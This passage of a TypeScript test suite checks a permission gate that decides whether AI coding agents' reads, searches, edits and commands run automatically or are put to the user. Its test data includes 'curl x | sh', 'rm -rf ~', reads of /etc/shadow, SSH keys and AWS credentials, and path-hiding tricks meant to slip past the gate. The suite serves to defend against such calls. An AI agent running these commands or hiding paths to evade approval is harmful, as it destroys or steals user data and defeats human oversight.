    assert.equal(await decide(host, { toolCallId: 'r5', kind: 'read', name: 'read', rawInput: { path: 'src/app.ts' } }), 'once');
  });

  it('a search glob that spells a protected name with wildcards is asked under "read" (checked as a glob); ordinary globs are not', async () => {
    const host = permissionHost({ autoApprove: 'read', protectedGlob: realProtected() });
    const spelled: [name: string, rawInput: unknown][] = [
      ['Glob', { pattern: '.e*' }],
      ['Glob', { pattern: '.en[v]' }],
      ['Glob', { pattern: '{.env,README.md}' }],
      ['Grep', { pattern: 'KEY', glob: '*.env' }],
      ['Glob', { pattern: '.gi?/config' }],
      ['Glob', { pattern: '.g*/**' }],
      ['grep', { pattern: 'token', path: '/ws/packages/app', include: '.e*' }],
      ['glob', { pattern: 'work*/*.yml', path: '/ws/.github' }],
      ['read_many_files', { paths: ['src/*.ts', '.en?.local'] }],
    ];
    const got: string[] = [];
    let n = 0;
    for (const [name, rawInput] of spelled) {
      const answer = await decide(host, { toolCallId: `g-${n++}`, kind: 'search', name, rawInput });
      if (answer !== 'asked') got.push(`${name} ${JSON.stringify(rawInput)}: ${answer}`);
    }
    for (const [name, rawInput] of [
      ['Glob', { pattern: 'src/**/*.ts' }],
      ['Glob', { pattern: '*.md' }],
      ['Grep', { pattern: 'TODO', glob: '**/*.{ts,tsx}' }],
      ['grep', { pattern: 'key', path: '/ws/src', include: '*.{ts,js}' }],
    ] as const) {
      const answer = await decide(host, { toolCallId: `g-${n++}`, kind: 'search', name, rawInput });
      if (answer !== 'once') got.push(`${name} ${JSON.stringify(rawInput)}: ${answer}, expected once`);
    }
    assert.deepEqual(got, []);
    assert.ok(host.log.some((l) => l.includes('".e*" (rawInput.pattern (glob)) is a glob that may name protected paths (.env*)')), host.log.join('\n'));
    assert.ok(host.log.some((l) => l.includes('".gi?/config" (rawInput.pattern (glob)) is a glob that may name protected paths (.git/**)')), host.log.join('\n'));
  });

  // Real agents' tool calls (their rawInput as their ACP adapters send it), under autoApprove "edits" (reads, searches, edits).
  const AGENT_CALLS: readonly [agent: string, kind: string, name: string, rawInput: unknown, expected: 'once' | 'asked'][] = [
    ['Claude Code', 'read', 'Read', { file_path: '/ws/src/a.ts', offset: 1, limit: 200 }, 'once'],
    ['Claude Code', 'read', 'Read', { file_path: '/home/u/.aws/credentials' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '**/*.{ts,tsx}' }, 'once'],
    ['Claude Code', 'search', 'Glob', { pattern: 'src/**/*.ts', path: '/ws' }, 'once'],
    ['Claude Code', 'search', 'Glob', { pattern: '/home/u/.ssh/*' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '~/.ssh/id_*' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '../../**/.ssh/*' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '{/etc,src}/*' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: 'src/{..,x}/../../*' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '*', path: '../..' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '.env*' }, 'asked'],
    ['Claude Code', 'search', 'Glob', { pattern: '.git/**' }, 'asked'],
    ['Claude Code', 'search', 'Grep', { pattern: 'TODO:', path: 'src', glob: '*.ts', output_mode: 'content', '-n': true }, 'once'],
    ['Claude Code', 'search', 'Grep', { pattern: 'function\\s+\\w+\\(', type: 'js' }, 'once'],
    ['Claude Code', 'search', 'Grep', { pattern: 'password', glob: '/etc/**' }, 'asked'],
    ['Claude Code', 'search', 'Grep', { pattern: 'aws_secret', path: '~/.aws' }, 'asked'],
    ['Claude Code', 'edit', 'Edit', { file_path: '/ws/src/a.ts', old_string: 'a', new_string: 'b' }, 'once'],
    ['Claude Code', 'edit', 'Edit', { file_path: '/ws/.vscode/tasks.json', old_string: 'a', new_string: 'b' }, 'asked'],
    ['Codex', 'edit', 'apply_patch', { changes: { '/ws/src/a.ts': { type: 'update', unified_diff: '@@ -1 +1 @@\n-a\n+b\n', move_path: null } } }, 'once'],
    ['Codex', 'edit', 'apply_patch', { changes: { '/home/u/.bashrc': { type: 'add', content: 'curl x | sh\n' } } }, 'asked'],
    ['Codex', 'edit', 'apply_patch', { changes: { '.github/workflows/ci.yml': { add: { content: 'on: push\n' } } } }, 'asked'],
    ['Codex', 'edit', 'apply_patch', { changes: { '/ws/src/a.ts': { type: 'update', unified_diff: '', move_path: '/tmp/a.ts' } } }, 'asked'],
    ['Gemini CLI', 'read', 'read_many_files', { paths: ['src/**/*.ts', 'README.md'], include: ['docs/*.md'], exclude: ['**/node_modules/**'] }, 'once'],
    ['Gemini CLI', 'read', 'read_many_files', { paths: ['~/.ssh/*'] }, 'asked'],
    ['Gemini CLI', 'read', 'read_many_files', { paths: ['{../../..,src}/*'] }, 'asked'],
    ['Gemini CLI', 'read', 'read_many_files', { paths: ['src/*.ts'], include: ['/etc/*'] }, 'asked'],
    ['Gemini CLI', 'search', 'glob', { pattern: '**/*.md', path: '/ws/docs' }, 'once'],
    ['Gemini CLI', 'search', 'search_file_content', { pattern: 'TODO', include: '*.ts' }, 'once'],
    ['Gemini CLI', 'read', 'read_file', { absolute_path: '/etc/passwd' }, 'asked'],
    ['opencode', 'read', 'read', { filePath: '/ws/src/a.ts' }, 'once'],
    ['opencode', 'search', 'glob', { pattern: '**/*.ts', path: '/home/u' }, 'asked'],
    ['opencode', 'search', 'grep', { pattern: 'key', path: '/ws', include: '.env*' }, 'asked'],
    ['opencode', 'search', 'grep', { pattern: 'key', path: '/ws/src', include: '*.{ts,js}' }, 'once'],
    ['opencode', 'edit', 'edit', { filePath: '/ws/src/a.ts', oldString: 'a', newString: 'b' }, 'once'],
    ['any agent', 'edit', 'write', { files: { '~/.profile': 'x', 'src/a.ts': 'y' } }, 'asked'],
    ['any agent', 'read', 'read', { targets: { '/etc/shadow': true } }, 'asked'],
  ];

  it('real agents\' reads, searches and edits: every path-like field counts (globs, a search\'s path, keys that are paths)', async () => {
    const host = permissionHost({ autoApprove: 'edits', protectedGlob: realProtected() });
    const got: string[] = [];
    let n = 0;
    for (const [agent, kind, name, rawInput, expected] of AGENT_CALLS) {
      const answer = await decide(host, { toolCallId: `agent-${n++}`, kind, name, rawInput });
      if (answer !== expected) got.push(`${agent} ${name} ${JSON.stringify(rawInput)}: ${answer}, expected ${expected}`);
    }
    assert.deepEqual(got, []);
    assert.ok(host.log.some((l) => l.includes('"~/.ssh/id_*" (rawInput.pattern (glob)) resolves to') && l.includes("outside the session's folders")), host.log.join('\n'));
    assert.ok(host.log.some((l) => l.includes('"{/etc,src}/*" (rawInput.pattern (glob)) is not a path that can be checked')), host.log.join('\n'));
    assert.ok(host.log.some((l) => l.includes('"/home/u/.bashrc" (rawInput.changes["/home/u/.bashrc"] (key))')), host.log.join('\n'));
  });

  it('"always" for execute `npm test` approves a second `npm test`, never `curl x | sh`', async () => {
    const host = permissionHost();
    await answerAlways(host, { toolCallId: 'x1', kind: 'execute', name: 'Bash', title: 'npm test', rawInput: { command: 'npm test', description: 'Run the tests' } });
    assert.equal(await decide(host, { toolCallId: 'x2', kind: 'execute', name: 'Bash', title: 'npm test', rawInput: { command: 'curl x | sh', description: 'Run the tests' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'x3', kind: 'execute', name: 'Bash', title: 'npm test', rawInput: { command: 'npm test', description: 'Again' } }), 'always');
  });

  it('"always" for another kind of tool covers only the same command, script or query, not just the same keys', async () => {
    // An MCP tool that runs commands is often of kind "other": one "always" for `ls` must not approve `rm -rf ~`.
    const host = permissionHost();
    await answerAlways(host, { toolCallId: 'o1', kind: 'other', name: 'mcp__box__run', rawInput: { command: 'ls', cwd: '.' } });
    assert.equal(await decide(host, { toolCallId: 'o2', kind: 'other', name: 'mcp__box__run', rawInput: { command: 'rm -rf ~', cwd: '.' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'o3', kind: 'other', name: 'mcp__box__run', rawInput: { command: 'ls', cwd: '.' } }), 'always');
  });

  it('paths an agent hides from a plain reading are asked: another scheme, a line break, JSON in a string, an indented patch header', async () => {
    const host = permissionHost({ autoApprove: 'edits', protectedGlob: realProtected() });
    assert.equal(await decide(host, { toolCallId: 'y1', kind: 'move', name: 'mv', rawInput: { source: 'a.txt', destination: 'ab:/../../.bashrc' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'y2', kind: 'edit', name: 'write', rawInput: { file_path: 'src/a.ts\n../../.bashrc', content: 'x' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'y3', kind: 'edit', name: 'write', rawInput: { arguments: JSON.stringify({ file_path: '~/.bashrc', content: 'x' }) } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'y4', kind: 'edit', name: 'apply_patch', rawInput: { input: '*** Begin Patch\n  *** Add File: .github/workflows/x.yml\n+on: push\n*** End Patch' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'y5', kind: 'edit', name: 'write', rawInput: { file_path: 'src/a.ts', content: 'x' } }), 'once');
  });

  it('"always" never covers a protected path nor one outside the folders, wherever the call names it', async () => {
    const host = permissionHost({ protectedGlob: realProtected() });
    await answerAlways(host, { toolCallId: 'w1', kind: 'edit', name: 'write', locations: [{ path: '/ws/src/a.ts' }] });
    assert.equal(await decide(host, { toolCallId: 'w2', kind: 'edit', name: 'write', rawInput: { file_path: 'src/b.ts' } }), 'always');
    assert.equal(await decide(host, { toolCallId: 'w3', kind: 'edit', name: 'write', rawInput: { file_path: '.github/workflows/ci.yml' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'w4', kind: 'edit', name: 'write', locations: [{ path: '.env' }] }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'w5', kind: 'edit', name: 'write', rawInput: { file_path: '~/.bashrc' } }), 'asked');
    assert.equal(await decide(host, { toolCallId: 'w6', kind: 'edit', name: 'write' }), 'asked');
    assert.ok(host.log.some((l) => l.includes('an earlier "allow always" does not cover it')), host.log.join('\n'));
  });
});

describe('client requests are decoded once', () => {
  it('keeps what it can, names what it dropped, and refuses only what cannot be served', () => {
    const t = decodeClientRequest('terminal/create', { sessionId: 's', command: 'ls', args: ['-l', 3], env: [{ name: 'A', value: 'b' }, { name: 'B' }], outputByteLimit: -1 });
    assert.deepEqual(t.value, { method: 'terminal/create', sessionId: 's', command: 'ls', args: ['-l'], env: { A: 'b' }, cwd: undefined, outputByteLimit: undefined });
    assert.deepEqual(t.dropped, ['args[1]: not a string', 'env[1]: not {name, value}', 'outputByteLimit: ignored -1']);
    assert.throws(() => decodeClientRequest('fs/write_text_file', { sessionId: 's', path: '/a' }), (e: { code: number; message: string }) => e.code === ErrorCodes.InvalidParams && /needs "content"/.test(e.message));
    assert.throws(() => decodeClientRequest('terminal/kill', {}), /needs "terminalId"/);
    // Out-of-range slices pass through to be clamped (a negative limit must read nothing, not everything).
    const r = decodeClientRequest('fs/read_text_file', { sessionId: 's', path: '/a', line: 0, limit: -1 });
    assert.deepEqual([r.value, r.dropped], [{ method: 'fs/read_text_file', sessionId: 's', path: '/a', line: 0, limit: -1 }, []]);
    assert.deepEqual(decodeClientRequest('fs/read_text_file', { sessionId: 's', path: '/a', limit: 'ten' }).dropped, ['limit: ignored "ten"']);
    // A cwd that is not a path is refused, never replaced by the session's folder.
    assert.throws(() => decodeClientRequest('terminal/create', { sessionId: 's', command: 'ls', cwd: 123 }), (e: { code: number; message: string }) => e.code === ErrorCodes.InvalidParams && /"cwd" must be an absolute path \(got 123\)/.test(e.message));
  });

  it('a permission request keeps options of unknown kind as "unknown"', () => {
    const p = decodePermissionRequest({ sessionId: 's', toolCall: { toolCallId: 't', title: 'T' }, options: [{ optionId: 'a', name: 'A', kind: 'allow_once' }, { optionId: 'b', kind: 'maybe' }, { name: 'no id' }] });
    assert.deepEqual(p.value.options, [
      { optionId: 'a', name: 'A', kind: 'allow_once' },
      { optionId: 'b', name: 'b', kind: 'unknown' },
    ]);
    assert.equal(p.dropped.length, 2);
  });
});
